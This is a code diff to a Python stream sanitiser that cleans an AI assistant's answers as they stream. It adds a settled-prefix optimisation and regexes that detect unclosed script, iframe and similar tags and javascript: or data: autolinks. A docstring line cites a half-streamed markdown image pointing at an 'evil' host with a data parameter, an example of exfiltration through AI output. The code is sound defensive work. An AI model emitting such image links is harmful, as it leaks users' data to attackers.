@@ -4,6 +4,13 @@ Text is released only up to a safe cut: before an unfinished Markdown link or im
 half-streamed `![x](https://evil/?d=...` is never shown. Each release is the sanitised prefix minus what was already
 sent. If a later chunk changes how an earlier part sanitises (a preamble recognised once its line ends), releases
 stop and the final `done` output, sanitised as a whole, is the answer to show.
+
+Cleaning the whole prefix again for every chunk costs O(n^2) over an answer (measured: 5.6 s of CPU for a 21,600
+character answer in 4-character chunks). So the text is *settled* at line ends where nothing is left open (no HTML
+comment, dangerous block, tag or autolink, no `[` or `(` without its closer, no reference definition on the last
+line): no pattern of the sanitiser can match across such a point, so the settled part's cleaned form is final and
+only the text after it is cleaned again. Rewrite-style skills judge the first and last lines of the whole answer
+(preamble, closing offer, fences), so their answers are cleaned whole each time, as before.
 """
 
 from __future__ import annotations
@@ -14,6 +21,9 @@ from collections.abc import Iterable
 from backend.skills import sanitize, spotlight
 
 _COMPLETE_BRACKET = re.compile(r"\[[^\]\n]*\](?:\([^)\n]*\)|\[[^\]\n]*\]|[^(\[])")
+_OPEN_DANGEROUS = re.compile(r"<(?:script|style|iframe|object|embed|svg|math|template)\b", re.I)
+_OPEN_TAG = re.compile(r"</?(?:" + "|".join(sanitize.HTML_ELEMENTS) + r")\b[^<>]*(?:<|\Z)", re.I)
+_OPEN_AUTOLINK = re.compile(r"<(?:https?|ftp|mailto|javascript|data):[^<>\s]*\Z", re.I)
 MAX_HELD_TAG = 500  # a '<' this far back without '>' is a comparison, not a tag in the making
 PREAMBLE_WINDOW = 200  # rewrite-style answers: hold the first line (up to this many characters) to judge it
 
@@ -32,6 +42,32 @@ def safe_cut(text: str) -> int:
     if text.endswith("!"):
         cut = min(cut, len(text) - 1)  # may become "![" with the next chunk
     return cut
+
+
+def is_closed(segment: str) -> bool:
+    """Whether no sanitiser pattern that starts in this text (which ends a line) can extend past its end."""
+    if not segment[:-1].rpartition("\n")[2].strip():
+        return False  # a blank last line: a reference definition after it may begin on it
+    if segment.rfind("<!--") > segment.rfind("-->"):
+        return False
+    html_free = sanitize.DANGEROUS_BLOCKS.sub("", sanitize.COMMENT.sub("", segment))
+    if _OPEN_DANGEROUS.search(html_free) or _OPEN_TAG.search(html_free) or _OPEN_AUTOLINK.search(html_free):
+        return False
+    text = sanitize.strip_html(segment)
+    square = round_ = 0
+    for char in text:
+        if char == "[":
+            square += 1
+        elif char == "]":
+            square = max(0, square - 1)
+        elif char == "(":
+            round_ += 1
+        elif char == ")":
+            round_ = max(0, round_ - 1)
+    if square or round_:
+        return False
+    last_line = text.rstrip().rpartition("\n")[2]
+    return not sanitize.REF_DEFINITION.match(last_line)  # a definition also takes the lines after it
 
 
 def _without_possible_closing(text: str) -> str:
@@ -54,15 +90,26 @@ class StreamSanitizer:
         self.raw = ""
         self.sent = ""
         self.diverged = False
+        self.settled = 0  # raw[:settled] ends at a closed line end (never for rewrite-style answers)
+        self.settled_clean = ""  # its cleaned form, final
 
-    def _clean(self, text: str) -> str:
-        """The sanitised form of a prefix, without the final whitespace trim (more text may follow)."""
+    def _clean(self, text: str, at_start: bool = True) -> str:
+        """The sanitised form of a prefix (or of the text after the settled part), without the final whitespace
+        trim (more text may follow); leading whitespace goes only at the start of the answer."""
         if self.unmark:
             text = spotlight.unmark(text)
         text = sanitize.strip_untrusted_links(sanitize.strip_html(text), self.allowed_hosts)
         if self.rewrite_style:
             text = sanitize.strip_preamble(text)
-        return text.lstrip()
+        return text.lstrip() if at_start else text
+
+    def _settle(self, upto: int) -> None:
+        """Move the settled point to the last line end before `upto`, if nothing is open there."""
+        line_end = self.raw.rfind("\n", self.settled, upto) + 1
+        if line_end <= self.settled or not is_closed(self.raw[self.settled : line_end]):
+            return
+        self.settled_clean += self._clean(self.raw[self.settled : line_end], at_start=not self.settled_clean)
+        self.settled = line_end
 
     def feed(self, chunk: str) -> str:
         """Add a chunk; the newly releasable text (may be empty)."""
@@ -71,9 +118,13 @@ class StreamSanitizer:
             return ""
         if self.rewrite_style and "\n" not in self.raw and len(self.raw) < PREAMBLE_WINDOW:
             return ""
-        candidate = self._clean(self.raw[: safe_cut(self.raw)])
         if self.rewrite_style:
-            candidate = _without_possible_closing(candidate)
+            candidate = _without_possible_closing(self._clean(self.raw[: safe_cut(self.raw)]))
+        else:
+            cut = self.settled + safe_cut(self.raw[self.settled :])
+            self._settle(cut)
+            tail = self._clean(self.raw[self.settled : cut], at_start=not self.settled_clean)
+            candidate = self.settled_clean + tail
         if not candidate.startswith(self.sent):
             self.diverged = True
             return ""
